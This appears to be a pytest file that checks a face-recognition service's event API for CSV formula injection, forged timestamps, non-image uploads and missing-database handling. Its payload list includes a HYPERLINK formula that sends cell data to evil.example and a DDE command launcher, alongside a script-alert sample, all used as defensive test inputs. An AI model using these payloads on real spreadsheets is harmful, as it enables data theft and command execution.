"""Events are evidence (issue 26, point 10): an export cannot run formulas in the admin's spreadsheet, an event's
time cannot be forged far from the server's clock, a stored "face" is a JPEG made here, and an event is never
acknowledged when it could not be kept."""

import base64
import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from PIL import Image

from .conftest import upload

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_csv_export_carries_a_formula(client, formula):
    r = client.post("/api/v1/events", json={"source": formula})
    assert r.status_code == 201, r.text
    assert client.post("/api/v1/collections", json={"name": "dock"}).status_code in (201, 409)
    assert client.post("/api/v1/collections/dock/events", json={"source": formula}).status_code == 201
    for path in ("/api/v1/events.csv", "/api/v1/collections/dock/events.csv", "/api/v1/audit.csv"):
        r = client.get(path)
        assert r.status_code == 200, (path, r.text)
        cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
        assert not any(c.startswith(("=", "+", "@", "-", "\t")) for c in cells), (path, r.text)
    sources = [row[2] for row in csv.reader(io.StringIO(client.get("/api/v1/events.csv").text))]
    assert "'" + formula.strip() in sources  # kept, as text (a spreadsheet shows it without the apostrophe)


def test_events_under_a_collections_path_export_that_collection(client):
    """`/collections/{name}/events.csv` was 404."""
    client.post("/api/v1/collections", json={"name": "dock"})
    client.post("/api/v1/collections/dock/events", json={"source": "dock-door"})
    client.post("/api/v1/events", json={"source": "office-door"})
    text = client.get("/api/v1/collections/dock/events.csv").text
    assert "dock-door" in text and "office-door" not in text


def test_an_event_time_far_from_the_servers_clock_is_refused(client):
    now = datetime.now(timezone.utc)
    for when in (datetime(9999, 1, 1, tzinfo=timezone.utc), now + timedelta(hours=1), now - timedelta(days=3)):
        r = client.post("/api/v1/events", json={"source": "door", "time": when.isoformat()})
        assert r.status_code == 422 and r.json()["error"]["details"]["field"] == "time", r.text
    for when in (now - timedelta(hours=2), now + timedelta(minutes=2)):  # late, and a clock a little ahead
        assert client.post("/api/v1/events", json={"source": "door", "time": when.isoformat()}).status_code == 201
    assert client.get("/api/v1/events").json()["total"] == 2


def test_a_face_that_is_not_a_picture_is_refused_and_a_picture_is_kept_as_a_jpeg(make_client, tmp_path, photos):
    kept = make_client(tmp_path / "data", event_faces=True, event_unknown_faces=True)
    for fake in (b"<html><script>alert(1)</script></html>", b'<svg xmlns="http://www.w3.org/2000/svg"/>',
                 b"\x7fELF\x02\x01\x01" + b"\0" * 64):
        r = kept.post("/api/v1/events", json={"source": "door", "face": base64.b64encode(fake).decode()})
        assert r.status_code == 400 and r.json()["error"]["code"] == "invalid_image", r.text
    png = io.BytesIO()
    Image.open(photos["Emma_Watson"][0]).crop((60, 60, 190, 190)).save(png, "PNG")
    r = kept.post("/api/v1/events", json={"source": "door", "face": base64.b64encode(png.getvalue()).decode()})
    assert r.status_code == 201, r.text
    served = kept.get(r.json()["face_url"])
    assert served.content[:3] == b"\xff\xd8\xff" and served.headers["content-type"] == "image/jpeg"
    assert kept.get("/api/v1/events").json()["total"] == 1
    # every API answer says: do not sniff
    assert kept.get("/api/v1/health").headers["x-content-type-options"] == "nosniff"
    assert kept.post("/api/v1/identify", files=[upload(photos["Emma_Watson"][0])]).headers[
        "x-content-type-options"] == "nosniff"


def test_an_event_is_not_acknowledged_when_the_database_file_is_gone(client, tmp_path):
    """The SQLite file deleted under the running service: enroll said so (503), events said 201."""
    (tmp_path / "data" / "faceshot.db").unlink()
    r = client.post("/api/v1/events", json={"source": "door"})
    assert r.status_code == 503 and r.json()["error"]["details"]["reason"] == "database_file_missing", r.text
